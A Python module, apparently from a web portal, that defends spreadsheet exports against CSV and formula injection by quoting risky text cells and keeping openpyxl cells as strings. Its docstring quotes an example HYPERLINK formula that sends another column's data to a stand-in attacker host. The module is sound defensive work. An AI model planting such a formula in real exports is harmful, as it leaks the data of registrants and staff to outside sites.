"""Cells of the spreadsheets the portal produces (CSV, XLSX) from text people typed.

A spreadsheet runs a cell that starts with =, +, - or @ as a formula (tab and CR start one too, after the program
strips them): a registrant named ``=HYPERLINK("http://evil.test/?d="&C2,"Apri")`` would send the next column to
another site when staff open the export. In a CSV, OWASP's advice ("CSV injection") is to prefix such a cell with a
single quote, which spreadsheets show as text.

An XLSX cell has a type: a string cell is never run, whatever it starts with, so there the text stays as typed (no
visible quote before "+39…" or "- ottimo"). The one trap is openpyxl itself, which stores a str starting with "=" as a
formula: ``append_row`` stores it as a string with Excel's "quote prefix" style, so editing the cell keeps it text.
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """``value`` with a leading quote when it is text a spreadsheet would read as a formula; anything else as is."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def append_row(sheet, values) -> None:
    """Append ``values`` to an openpyxl sheet as they are (numbers, dates, text); text is never a formula."""
    sheet.append(list(values))
    for cell in sheet[sheet.max_row]:
        if cell.data_type == "f" and isinstance(cell.value, str):
            cell.data_type = "s"
            cell.quotePrefix = True
